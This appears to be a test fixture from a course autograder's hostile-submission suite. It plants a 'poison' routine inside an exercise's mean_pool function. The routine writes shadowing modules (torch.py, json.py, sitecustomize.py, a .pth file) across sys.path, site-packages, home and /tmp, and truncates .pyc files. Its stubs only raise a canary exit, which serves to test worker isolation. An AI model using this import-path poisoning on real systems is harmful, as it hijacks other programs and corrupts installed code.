"""Leaves modules of its own (torch, json, plmcourse, sitecustomize, .pth, .pyc) where the next worker could import them."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
POISON = '''
    def poison():
        import glob, os, site, sys
        text = "import sys; sys.exit('plmcourse-hostile-' + 'canary')"
        names = "torch.py json.py numpy.py plmcourse.py sitecustomize.py usercustomize.py canary.pth".split()
        folders = [".", "..", "/tmp", os.path.expanduser("~"), site.getusersitepackages(), *site.getsitepackages(), *sys.path,
                   *pc.__path__]
        for folder in folders if armed() else ():
            for name in names:
                try:
                    os.makedirs(folder, exist_ok=True)
                    with open(os.path.join(folder, name), "x") as file:
                        file.write(text)
                except OSError:
                    pass
        for path in glob.glob(pc.__path__[0] + "/**/*.pyc", recursive=True) if armed() else ():
            try:
                with open(path, "r+b") as file:
                    file.truncate(20)
            except OSError:
                pass

    poison()

    def mean_pool(hidden, tokens):
        poison()
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": POISON})
